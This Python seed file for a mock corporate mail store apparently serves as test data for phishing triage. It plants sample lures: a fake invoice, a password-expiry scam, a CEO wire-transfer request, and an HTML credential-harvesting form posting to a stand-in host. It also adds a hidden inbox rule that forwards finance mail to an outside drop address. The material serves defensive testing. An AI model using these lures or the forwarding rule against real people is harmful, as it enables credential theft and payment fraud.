"""Seed data: three mailboxes of contoso.com with a realistic mix of benign and phishing mail (seed_rules.py adds
two more with inbox rules for triage, and bob's out-of-office settings).

Timestamps are relative to the moment of seeding, so "the last N days" queries
find them.  Everything else (ids included, given the store's RNG seed) is
deterministic.
"""
from __future__ import annotations

import base64
import datetime as dt
from dataclasses import dataclass

from . import seed_rules
from .content import simple_docx, simple_pdf, tiny_png
from .core import utc_now
from .factory import add_message
from .store import Mailbox, MailStore


@dataclass(frozen=True)
class Person:
    upn: str
    display_name: str
    given_name: str
    surname: str
    job_title: str
    user_id: str


ALICE = Person("alice@contoso.com", "Alice Wong", "Alice", "Wong", "Finance Manager",
               "6f1c2a9e-3b7d-4e21-9c55-0a8e7d3b2f10")
BOB = Person("bob@contoso.com", "Bob Martinez", "Bob", "Martinez", "IT Administrator",
             "a3d95b7c-1e48-4f0a-b6c2-5d7e9f1a2b34")
SOC = Person("soc@contoso.com", "Contoso SOC", "", "", "Security Operations",
             "0c7e4f2a-9d1b-4a6e-8f35-b2c1d0e9a876")
PEOPLE = (ALICE, BOB, SOC)

INLINE_CID = "image001.png@01DA5F3C.2B7E1A40"
PIPE_NEWLINE_SUBJECT = "Project plan | Phase 2\nkick-off agenda"
NON_ASCII_ATTACHMENT = "Résumé_Søren_Ødegård_履歴書.pdf"

_SPOOFED_AUTH = ("spf=fail (sender IP is 198.51.100.77) smtp.mailfrom={d}; dkim=none (message not signed) "
                 "header.d=none;dmarc=fail action=quarantine header.from={d};compauth=fail reason=001")


def _phish_headers(domain: str) -> dict[str, str]:
    return {"Authentication-Results": _SPOOFED_AUTH.format(d=domain),
            "Return-Path": f"bounce@{domain}", "X-Originating-IP": "[198.51.100.77]",
            "X-MS-Exchange-Organization-SCL": "5"}


def _b64(data: bytes) -> str:
    return base64.b64encode(data).decode("ascii")


def _html(*paragraphs: str) -> str:
    inner = "".join(f"<p>{p}</p>" for p in paragraphs)
    return ('<html><head>\r\n<meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>'
            f'<body><div dir="ltr">{inner}</div></body></html>')


# Every seeded mailbox, in the order of store.mailboxes() (tests that count users start from these).
SEED_UPNS = (*(p.upn for p in PEOPLE), *seed_rules.UPNS)


def populate(store: MailStore, now: dt.datetime | None = None) -> list[Mailbox]:
    """Create the seed mailboxes in an empty store."""
    now = now or utc_now()
    mailboxes = [store.add_mailbox(p.upn, p.display_name, p.given_name, p.surname, p.job_title, p.user_id)
                 for p in PEOPLE]
    alice, bob, soc = mailboxes
    phishing = store.create_folder(soc, store.folder(soc, "inbox"), "Phishing")
    store.create_folder(soc, phishing, "Triaged")
    _seed_alice(store, alice, now)
    _seed_bob(store, bob, now)
    _seed_soc(store, soc, now)
    return mailboxes + seed_rules.populate(store)


def _at(now: dt.datetime, hours: float) -> str:
    return (now - dt.timedelta(hours=hours)).strftime("%Y-%m-%dT%H:%M:%SZ")


def _invoice_phish(now: dt.datetime) -> dict:
    return {
        "subject": "Invoice INV-20931 overdue – final notice",
        "from": "Accounts Receivable <ar@contoso-billing.co>",
        "to": ["Alice Wong <alice@contoso.com>"],
        "receivedDateTime": _at(now, 2), "importance": "high",
        "body": _html("Dear customer,",
                      "Our records show that invoice <b>INV-20931</b> (USD 18,420.00) is 14 days overdue. "
                      "To avoid service suspension, settle the balance today via our "
                      '<a href="https://contoso-billing.co/pay/INV-20931?ref=alice">secure payment portal</a>.',
                      "The invoice is attached for your records.", "Accounts Receivable"),
        "headers": _phish_headers("contoso-billing.co"),
        "attachments": [{"name": "INV-20931.pdf", "contentType": "application/pdf",
                         "content_b64": _b64(simple_pdf([
                             "INVOICE INV-20931", "Amount due: USD 18,420.00",
                             "Pay now: https://contoso-billing.co/pay/INV-20931",
                             "Bank: IBAN GB29 NWBK 6016 1331 9268 19"]))}],
    }


def _password_phish(now: dt.datetime) -> dict:
    return {
        "subject": "Password expires in 1 day",
        "from": "IT Service Desk <servicedesk@contoso-helpdesk.support>",
        "to": ["Bob Martinez <bob@contoso.com>"],
        "receivedDateTime": _at(now, 3),
        "body": _html("Your Contoso network password expires in 1 day.",
                      'Keep your current password: <a href="https://contoso-helpdesk.support/owa/keep?u=bob">'
                      "Keep Same Password</a>", "IT Service Desk"),
        "headers": _phish_headers("contoso-helpdesk.support"),
    }


def _signin_alert() -> dict:
    return {
        "subject": "Microsoft account unusual sign-in activity",
        "from": "Microsoft account team <account-security-noreply@accountprotection.micros0ft.com>",
        "to": ["alice@contoso.com"],
        "receivedDateTime": "2024-03-14T06:12:44Z",
        "body": _html("We detected something unusual about a recent sign-in to the Microsoft account "
                      "a**e@contoso.com.", "Country/region: Russia/Moscow<br>IP address: 203.0.113.66",
                      'If this wasn\'t you, <a href="https://micros0ft-account-verify.example/secure">'
                      "review recent activity</a>."),
        "headers": _phish_headers("accountprotection.micros0ft.com"),
        "attachments": [{"name": "sign-in-details.txt", "contentType": "text/plain",
                         "content": "Sign-in attempt from 203.0.113.66 (Moscow) at 2024-03-14 06:10 UTC\n"}],
    }


def _seed_alice(store: MailStore, alice: Mailbox, now: dt.datetime) -> None:
    inbox = store.folder(alice, "inbox")
    add_message(store, alice, inbox, _invoice_phish(now))
    add_message(store, alice, inbox, {
        "subject": "Shared with you: Q3 Budget Review.docx",
        "from": "SharePoint Online <no-reply@sharepointonline-docs.com>",
        "to": ["alice@contoso.com"], "receivedDateTime": _at(now, 5),
        "body": _html("Bob Martinez shared a file with you.",
                      "Open the attached document and click <i>Enable Editing</i> to view the content."),
        "headers": _phish_headers("sharepointonline-docs.com"),
        "attachments": [{"name": "Q3 Budget Review.docx",
                         "contentType": "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                         "content_b64": _b64(simple_docx([
                             "This document is protected.",
                             "Enable editing and enable content to decrypt the budget figures."]))}],
    })
    add_message(store, alice, inbox, {
        "subject": "Team offsite photos", "from": "Bob Martinez <bob@contoso.com>",
        "to": ["Alice Wong <alice@contoso.com>"], "receivedDateTime": _at(now, 8), "isRead": True,
        "body": _html("Hi Alice, here is the group photo from the offsite:",
                      f'<img src="cid:{INLINE_CID}" alt="group photo" width="8" height="8">', "Bob"),
        "attachments": [{"name": "image001.png", "contentType": "image/png", "isInline": True,
                         "contentId": INLINE_CID, "content_b64": _b64(tiny_png())}],
    })
    add_message(store, alice, inbox, {
        "subject": "FW: Unusual sign-in activity", "from": "Bob Martinez <bob@contoso.com>",
        "to": ["alice@contoso.com"], "receivedDateTime": _at(now, 20),
        "body": "Alice - I got this on my personal account too. Is it legit? Original attached.\r\n\r\nBob",
        "bodyType": "text",
        "item_attachments": [{**_signin_alert(), "name": "Microsoft account unusual sign-in activity"}],
    })
    add_message(store, alice, inbox, {
        "subject": PIPE_NEWLINE_SUBJECT, "from": "Carol Diaz <carol.diaz@contoso.com>",
        "to": ["alice@contoso.com", "bob@contoso.com"], "cc": ["soc@contoso.com"],
        "receivedDateTime": _at(now, 26), "isRead": True, "categories": ["Projects"],
        "flag": {"flagStatus": "flagged"},
        "body": _html("Agenda for Phase 2 kick-off: scope | owners | dates.",
                      "The plan lives in OneDrive (linked below)."),
        "attachments": [{"kind": "reference", "name": "Phase 2 Plan.xlsx", "size": 48213,
                         "contentType": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"}],
    })
    add_message(store, alice, inbox, {
        "subject": "Résumé – Søren Ødegård (application for Financial Analyst)",
        "from": "Søren Ødegård <soren.odegard@example.no>", "to": ["alice@contoso.com"],
        "receivedDateTime": _at(now, 30),
        "body": _html("Hei Alice,", "Vedlagt finner du CV-en min. Med vennlig hilsen, Søren"),
        "attachments": [{"name": NON_ASCII_ATTACHMENT, "contentType": "application/pdf",
                         "content_b64": _b64(simple_pdf(["Soren Odegard - Curriculum Vitae",
                                                         "Financial Analyst, Oslo"]))}],
    })
    add_message(store, alice, inbox, {
        "subject": "Lunch on Thursday?", "from": "Bob Martinez <bob@contoso.com>", "to": ["alice@contoso.com"],
        "receivedDateTime": _at(now, 48), "isRead": True, "bodyType": "text",
        "body": "Hi Alice,\r\nAre you free for lunch on Thursday at 12:30? The new place on 5th.\r\nBob",
    })
    add_message(store, alice, inbox, {
        "subject": "Weekly status report — week 14", "from": "Contoso Reporting <reports@contoso.com>",
        "to": ["alice@contoso.com"], "receivedDateTime": _at(now, 72), "isRead": True,
        "categories": ["Reports"], "inferenceClassification": "other",
        "body": _html("All finance close tasks are on track.", "Open items: 3 (see dashboard)."),
    })
    add_message(store, alice, store.folder(alice, "sentitems"), {
        "subject": "RE: Lunch on Thursday?", "from": "Alice Wong <alice@contoso.com>",
        "to": ["Bob Martinez <bob@contoso.com>"], "receivedDateTime": _at(now, 47), "isRead": True,
        "bodyType": "text", "body": "Sounds good, see you there!\r\nAlice",
    })
    add_message(store, alice, store.folder(alice, "junkemail"), {
        "subject": "Congratulations! You've won a $1,000 gift card",
        "from": "Rewards Center <winner@promo-rewards.example>", "to": ["alice@contoso.com"],
        "receivedDateTime": _at(now, 12),
        "body": _html('Claim your reward now: <a href="http://promo-rewards.example/claim">claim</a>'),
        "headers": _phish_headers("promo-rewards.example"),
    })
    add_message(store, alice, store.folder(alice, "deleteditems"), {
        "subject": "Your mailbox is almost full", "from": "IT Helpdesk <helpdesk@contoso-it-support.net>",
        "to": ["alice@contoso.com"], "receivedDateTime": _at(now, 40), "isRead": True,
        "body": _html('Your mailbox is 98% full. <a href="https://contoso-it-support.net/quota">Increase quota</a>'),
        "headers": _phish_headers("contoso-it-support.net"),
    })
    add_message(store, alice, store.folder(alice, "archive"), {
        "subject": "2023 travel and expense policy", "from": "Contoso HR <hr@contoso.com>",
        "to": ["alice@contoso.com"], "receivedDateTime": _at(now, 24 * 40), "isRead": True,
        "body": _html("Please find the updated policy on the intranet."),
    })
    archive_id = store.folder(alice, "archive").id
    alice.rules.extend([
        {"id": store.ids.short_id(), "displayName": "..", "sequence": 1, "isEnabled": True,
         "hasError": False, "isReadOnly": False,
         "conditions": {"bodyOrSubjectContains": ["invoice", "payment", "wire transfer", "bank details"]},
         "actions": {"forwardTo": [{"emailAddress": {"name": "Finance Archive",
                                                     "address": "fin.archive@protonmail-drop.net"}}],
                     "markAsRead": True, "moveToFolder": archive_id, "stopProcessingRules": True},
         "exceptions": None},
        {"id": store.ids.short_id(), "displayName": "Move newsletters", "sequence": 2, "isEnabled": True,
         "hasError": False, "isReadOnly": False,
         "conditions": {"senderContains": ["newsletter"]},
         "actions": {"moveToFolder": store.create_folder(alice, store.folder(alice, "inbox"), "Newsletters").id,
                     "stopProcessingRules": False},
         "exceptions": {"subjectContains": ["urgent"]}},
    ])


def _seed_bob(store: MailStore, bob: Mailbox, now: dt.datetime) -> None:
    inbox = store.folder(bob, "inbox")
    add_message(store, bob, inbox, _password_phish(now))
    add_message(store, bob, inbox, {
        "subject": "Server maintenance window Saturday", "from": "Infra Ops <infra-ops@contoso.com>",
        "to": ["bob@contoso.com"], "receivedDateTime": _at(now, 28), "isRead": True,
        "body": _html("Patching of the Exchange hybrid servers is scheduled for Saturday 22:00-02:00 UTC."),
    })
    add_message(store, bob, store.folder(bob, "sentitems"), {
        "subject": "Team offsite photos", "from": "Bob Martinez <bob@contoso.com>", "to": ["alice@contoso.com"],
        "receivedDateTime": _at(now, 8), "isRead": True, "body": _html("Hi Alice, here is the group photo."),
    })
    bob.rules.append(
        {"id": store.ids.short_id(), "displayName": "Flag alerts from monitoring", "sequence": 1,
         "isEnabled": True, "hasError": False, "isReadOnly": False,
         "conditions": {"fromAddresses": [{"emailAddress": {"name": "Monitoring",
                                                            "address": "monitoring@contoso.com"}}]},
         "actions": {"markImportance": "high", "stopProcessingRules": False}, "exceptions": None})


def _seed_soc(store: MailStore, soc: Mailbox, now: dt.datetime) -> None:
    inbox = store.folder(soc, "inbox")
    add_message(store, soc, inbox, {
        "subject": "[Phish Report] Invoice INV-20931 overdue – final notice",
        "from": "Alice Wong <alice@contoso.com>", "to": ["soc@contoso.com"], "receivedDateTime": _at(now, 1),
        "body": _html("Reported via the Report Message add-in. Looks like a fake invoice."),
        "item_attachments": [{**_invoice_phish(now), "name": "Invoice INV-20931 overdue – final notice"}],
    })
    add_message(store, soc, inbox, {
        "subject": "[Phish Report] Password expires in 1 day",
        "from": "Bob Martinez <bob@contoso.com>", "to": ["soc@contoso.com"], "receivedDateTime": _at(now, 2.5),
        "body": _html("Reported via the Report Message add-in."),
        "item_attachments": [_password_phish(now)],
    })
    phishing = store.folder_by_path(soc, "Inbox/Phishing")
    add_message(store, soc, phishing, {
        "subject": "Wire transfer request – urgent and confidential",
        "from": "David Chen (CEO) <ceo.contoso@outlook-mail.example>", "to": ["alice@contoso.com"],
        "replyTo": ["david.chen.ceo@protonmail-drop.net"], "receivedDateTime": _at(now, 30), "importance": "high",
        "body": _html("Alice, I need you to process a wire transfer of USD 48,900 today for an acquisition. "
                      "Keep this confidential and reply only to me.", "David"),
        "headers": _phish_headers("outlook-mail.example"),
    })
    add_message(store, soc, phishing, {
        "subject": "DocuSign: Please review and sign 'Contract_2024.pdf'",
        "from": "DocuSign Signing Service <dse@docusign-secure.example>", "to": ["bob@contoso.com"],
        "receivedDateTime": _at(now, 32),
        "body": _html("You have received a document to review and sign.", "Open the attached secure viewer."),
        "headers": _phish_headers("docusign-secure.example"),
        "attachments": [{"name": "Contract_2024.html", "contentType": "text/html",
                         "content": '<html><body><form action="https://docusign-secure.example/collect" '
                                    'method="post">Email <input name="u"> Password <input name="p" '
                                    'type="password"></form></body></html>'}],
    })
    add_message(store, soc, store.folder_by_path(soc, "Inbox/Phishing/Triaged"), {
        "subject": "[Triaged] Fake Microsoft 365 login page", "from": "Alice Wong <alice@contoso.com>",
        "to": ["soc@contoso.com"], "receivedDateTime": _at(now, 72), "isRead": True,
        "categories": ["Triaged", "Malicious"], "flag": {"flagStatus": "complete"},
        "body": _html("Credential phishing page hosted on login-m365.example; URL blocked at the proxy."),
    })
